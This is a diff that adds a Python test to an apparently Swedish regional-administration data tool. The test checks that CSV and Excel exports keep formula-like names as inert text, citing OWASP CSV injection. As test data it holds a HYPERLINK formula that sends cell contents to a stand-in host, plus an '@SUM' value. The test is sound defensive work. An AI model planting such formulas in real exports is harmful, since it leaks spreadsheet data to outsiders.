@@ -151,3 +151,30 @@ def test_a_row_about_another_lan_is_refused_by_row(seeded_engine):
     assert [(e.sheet, e.row, e.column) for e in result.errors] == [("Ombud", 2, "Verksamhet")]
     assert result.errors[0].reason == ("Länsstyrelse 06 får bara ändra uppgifter i sitt eget län "
                                        "(raden gäller län 10).")
+
+
+def test_a_formula_like_name_stays_text_in_every_export(seeded_engine):
+    """OWASP CSV injection: a verksamhet named like a formula is never run by Excel, and loses nothing in .xlsx."""
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from upkeep.exports import sheets, to_csv
+    from upkeep.workbook import export
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
+    frame = pd.DataFrame({"Verksamhet": [evil, "@SUM(1+1)", "Vanlig"], "Förändring": ["-3", "+1", "0"]})
+    lines = to_csv(frame).decode("utf-8-sig").splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'@SUM") and lines[3] == "Vanlig;0"
+    assert lines[1].endswith(";-3") and lines[2].endswith(";+1")          # plain numbers are left alone
+    cell = openpyxl.load_workbook(io.BytesIO(sheets({"Data": frame}))).active["A2"]
+    assert (cell.value, cell.data_type) == (evil, "s")
+    with Session(seeded_engine) as s:
+        v = s.exec(select(m.Verksamhet).where(m.Verksamhet.lan_code == "10")).first()   # Cura, Blekinge
+        v.name = evil
+        s.add(v)
+        s.commit()
+        book = openpyxl.load_workbook(io.BytesIO(export(session=s, lan_code="10", year=2025)))
+    found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert found and all(c.data_type == "s" for c in found)
